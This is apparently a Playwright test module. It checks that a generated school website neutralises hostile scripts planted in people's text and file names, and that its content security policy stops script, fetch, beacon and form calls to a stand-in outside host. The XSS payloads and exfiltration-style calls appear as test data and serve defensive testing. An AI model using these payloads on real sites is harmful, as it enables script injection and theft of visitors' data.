"""A school whose people write attacks into everything they may write: nothing of it runs, and nothing leaves."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.sealed.door import expect_open
from tests.browser.sealed.host import Host, hosted
from tests.browser.sealed.hostile_words import ELSEWHERE, IN_FILE_NAMES, IN_WORDS, write_hostile_school
from tests.browser.sealed.publications import Sealed, sealed_by_command
from tests.browser.sealed.visitor import Visitor

pytestmark = pytest.mark.browser

VICTIM = "s-00001"
RECORDER = "globalThis.ran = []; globalThis.alert = globalThis.prompt = text => ran.push(text)"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Sealed:
    folder = tmp_path_factory.mktemp("attacked")
    write_hostile_school(folder / "school")
    return sealed_by_command(folder / "school", folder / "out", 1)


@pytest.fixture
def hostile_host(attacked: Sealed) -> Iterator[Host]:
    with hosted(attacked.site) as host:
        yield host


def touch_everything(page: Page) -> None:
    """Open what is folded, point at everything, and go through all that can be focused: what a reader might do."""
    page.evaluate(
        """() => {
            document.querySelectorAll('details').forEach(each => { each.open = true })
            for (const each of document.querySelectorAll('main *')) {
                for (const kind of ['mouseover', 'mouseenter', 'focus', 'error', 'load', 'toggle', 'animationstart'])
                    each.dispatchEvent(new Event(kind))
                each.focus?.()
            }
        }"""
    )


# Scripts, addresses of scripts, and attributes that are scripts, in what the page was made of.
LIVE = """() => {
    const found = []
    const live = 'script, iframe, object, embed, base, form, meta, link, style, template'
    for (const each of document.querySelectorAll('#pb *')) {
        if (each.matches(live)) found.push(each.outerHTML.slice(0, 120))
        for (const { name, value } of each.attributes) {
            if (name.startsWith('on')) found.push(`${name}=${value}`)
            if (/^(href|src|action|formaction|srcdoc|xlink:href)$/.test(name)
                && /^\\s*(javascript|data:text|vbscript)/i.test(value)) found.push(`${name}=${value}`)
        }
    }
    return found
}"""


@pytest.mark.attack("script-in-words")
@pytest.mark.attack("script-in-names")
@pytest.mark.attack("nothing-leaves")
def test_what_people_wrote_never_runs_and_never_asks_elsewhere(
    attacked: Sealed, hostile_host: Host, visitor: Visitor
) -> None:
    """On every page, touched everywhere; with the words themselves still there to be read."""
    visitor.context.add_init_script(RECORDER)
    page = visitor.opens(hostile_host.url(attacked.folder(VICTIM)), attacked.code(VICTIM))
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    paths = [path for path in attacked.manifest(VICTIM).files if path.endswith("index.html")]
    for path in paths:
        page.goto(hostile_host.url(attacked.folder(VICTIM) + path.removesuffix("index.html")))
        expect_open(page)
        assert page.evaluate(LIVE) == [], path
        touch_everything(page)
        assert page.evaluate("ran") == [], path
    assert len(paths) > 8
    assert [url for url in visitor.requests if ELSEWHERE in url] == []
    assert [url for url in visitor.requests if not url.startswith((hostile_host.address, "data:"))] == []
    assert [text for text in visitor.complaints if "Content Security" in text] == [], "nothing even tried"


@pytest.mark.attack("script-in-words")
def test_what_is_found_by_searching_never_runs(attacked: Sealed, hostile_host: Host, visitor: Visitor) -> None:
    """The theme puts what it found into the page as HTML."""
    visitor.context.add_init_script(RECORDER)
    page = visitor.opens(hostile_host.url(attacked.folder(VICTIM)), attacked.code(VICTIM))
    for typed in ("onerror", "script", "<img src=x onerror=ran.push(1)>", "equal"):
        page.locator(".md-search__input").fill("")
        page.locator(".md-search__input").press("End")
        page.locator(".md-search__input").fill(typed)
        page.locator(".md-search__input").press("End")
        page.wait_for_timeout(300)
        assert page.locator(".md-search-result :is(script, img, iframe, svg[onload], [onerror])").count() == 0
        assert page.evaluate("ran") == [], typed
    expect(page.locator("a.md-search-result__link").first).to_be_attached()


@pytest.mark.attack("script-in-file-names")
def test_names_of_files_neither_run_nor_lead_elsewhere(attacked: Sealed, hostile_host: Host, visitor: Visitor) -> None:
    visitor.context.add_init_script(RECORDER)
    page = visitor.opens(hostile_host.url(attacked.folder(VICTIM)), attacked.code(VICTIM))
    page.goto(hostile_host.url(f"{attacked.folder(VICTIM)}evidence/"))
    expect_open(page)
    page.evaluate("document.querySelectorAll('#pb img').forEach(each => { each.loading = 'eager' })")
    page.evaluate("Promise.all([...document.querySelectorAll('#pb img')].map(each => each.decode()))")
    shown = page.evaluate("[...document.querySelectorAll('#pb img')].map(each => [each.src, each.naturalWidth])")
    assert len(shown) == len(IN_FILE_NAMES)
    files = f"{hostile_host.address}{attacked.folder(VICTIM)}evidence/files/"
    for address, width in shown:
        assert address.startswith(files)
        assert width > 0, address
    assert page.evaluate("ran") == []
    assert page.evaluate(LIVE) == []
    held = attacked.manifest(VICTIM).files
    assert [path for path in held if ".." in path or "\\" in path or path.startswith("/")] == []


@pytest.mark.attack("wall-behind")
def test_a_script_that_got_into_a_page_is_stopped_by_the_second_wall(
    attacked: Sealed, hostile_host: Host, visitor: Visitor
) -> None:
    """As if all cleaning had failed: each attack is put into the open page as HTML, and asked for by hand.

    Only being sent away (`<meta http-equiv=refresh>`) no policy stops: so it is the cleaning that counts.
    """
    visitor.context.add_init_script(RECORDER)
    page = visitor.opens(hostile_host.url(attacked.folder(VICTIM)), attacked.code(VICTIM))
    page.evaluate(
        "texts => { for (const text of texts) document.querySelector('#pb').insertAdjacentHTML('beforeend', text) }",
        [text for text in IN_WORDS if "refresh" not in text],
    )
    page.evaluate(
        """elsewhere => {
            const script = document.createElement('script')
            script.textContent = "ran.push('inline')"
            document.body.append(script)
            const far = document.createElement('script')
            far.src = `//${elsewhere}/far.js`
            document.body.append(far)
            fetch(`//${elsewhere}/fetch`).catch(() => 0)
            navigator.sendBeacon(`//${elsewhere}/beacon`, 'x')
            new Image().src = `//${elsewhere}/image`
            setTimeout(() => { try { eval("ran.push('eval')") } catch { } })  // later: tools may do what pages may not
            setTimeout("ran.push('timeout')", 0)
            const form = document.createElement('form')
            form.action = `//${elsewhere}/form`
            document.body.append(form)
            form.submit()
            document.body.insertAdjacentHTML('beforeend', '<a id=trap href="javascript:ran.push(`link`)">x</a>')
            document.getElementById('trap').click()
        }""",
        ELSEWHERE,
    )
    touch_everything(page)
    page.wait_for_timeout(300)
    assert page.evaluate("ran") == []
    assert [url for url in visitor.requests if ELSEWHERE in url and url not in visitor.stopped] == []
    assert len([text for text in visitor.complaints if "Content Security" in text]) > 10, "the wall stood in the way"


def test_every_attack_is_an_attack(visitor: Visitor, tmp_path: Path) -> None:
    """Where nothing is cleaned and no wall stands, most of them run: what is shown above to be harmless was not."""
    visitor.context.add_init_script(RECORDER)
    staying = [each for each in IN_WORDS if "http-equiv" not in each.lower()]  # a page that leaves runs nothing more
    (tmp_path / "open.html").write_text(f"<!doctype html><meta charset=utf-8>{''.join(staying)}", encoding="utf-8")
    page = visitor.tab()
    page.route(f"**/*{ELSEWHERE}*/**", lambda route: route.abort())
    page.goto((tmp_path / "open.html").as_uri(), wait_until="commit")
    page.wait_for_function("ran.length >= 5")
    expect(page.locator("script").first).to_be_attached()
